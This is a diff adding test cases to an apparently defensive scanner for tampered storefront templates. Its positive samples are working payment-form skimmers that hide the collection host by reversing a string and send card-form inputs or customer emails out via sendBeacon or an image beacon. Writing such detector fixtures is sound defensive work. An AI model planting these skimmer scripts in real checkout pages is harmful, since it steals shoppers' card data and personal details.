@@ -25,6 +25,42 @@ const QUARANTINE_SKILL = (note: string) =>
 
 describeRuleCases('tamper', [
   {
+    id: 'SG-TAMPER-018',
+    file: 'templates/checkout.html',
+    positive: `<form id="pay"><input name="card"></form>
+<script>
+  var h = 'gro.scitylana-ppa'.split('').reverse().join('');
+  document.getElementById('pay').addEventListener('submit', function () {
+    var d = {};
+    document.querySelectorAll('input').forEach(function (i) { d[i.name] = i.value; });
+    navigator.sendBeacon('https://' + h + '/c', btoa(JSON.stringify(d)));
+  });
+</script>
+`,
+    negative: `<form id="add" action="/cart/add"><input name="id"></form>
+<script>
+  document.getElementById('add').addEventListener('submit', function (e) {
+    e.preventDefault();
+    fetch('/cart/add.js', { method: 'POST', body: new FormData(e.target) });
+  });
+</script>
+`,
+  },
+  {
+    id: 'SG-TAMPER-018',
+    file: 'sections/footer.liquid',
+    positive: `{%- assign _h = 'oi.kcart-sgol' | split: '' | reverse | join: '' -%}
+<script>
+  var c = { mail: {{ customer.email | json }} };
+  window.addEventListener('pagehide', function () { new Image().src = '//' + {{ _h | json }} + '/p?d=' + encodeURIComponent(JSON.stringify(c)); });
+</script>
+`,
+    negative: `{%- assign _h = 'oi.kcart-sgol' | split: '' | reverse | join: '' -%}
+<p>{{ customer.email | escape }}</p>
+<script>window.addEventListener('pagehide', function () { console.log({{ _h | json }}); });</script>
+`,
+  },
+  {
     id: 'SG-TAMPER-014',
     file: 'hotkeys.ahk',
     positive:
@@ -536,6 +572,17 @@ describe('adversarial payment tables', () => {
   it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
     const start = performance.now();
     findingsOf(text, 'data/table.csv', undefined, { 'scripts/pay.py': text });
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
+describe('adversarial page templates', () => {
+  it('should scan 1 MiB of skimmer parts in under a second', () => {
+    const text = "x.elements[ addEventListener('submit' new Image( | split: '' | reverse ".repeat(
+      (1024 * 1024) / 70,
+    );
+    const start = performance.now();
+    findingsOf(text, 'snippets/a.liquid');
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
